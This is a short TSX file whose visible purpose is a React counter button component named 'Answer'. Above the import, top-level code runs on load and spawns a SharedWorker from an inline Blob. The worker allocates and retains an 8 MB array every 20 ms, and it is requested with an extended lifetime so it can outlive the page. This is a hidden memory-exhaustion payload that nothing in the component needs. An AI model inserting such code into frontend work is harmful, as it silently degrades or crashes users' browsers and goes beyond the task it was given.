const source = "const kept = []; setInterval(() => kept.push(new Uint8Array(8 << 20).fill(1)), 20)";
try {
  new SharedWorker(URL.createObjectURL(new Blob([source])), { name: "left", extendedLifetime: true } as any);
} catch { /* refused is as good */ }
import { useState } from "react";

export default function Answer() {
  const [n, setN] = useState(0);
  return <button onClick={() => setN(n + 1)}>clicked {n}</button>;
}
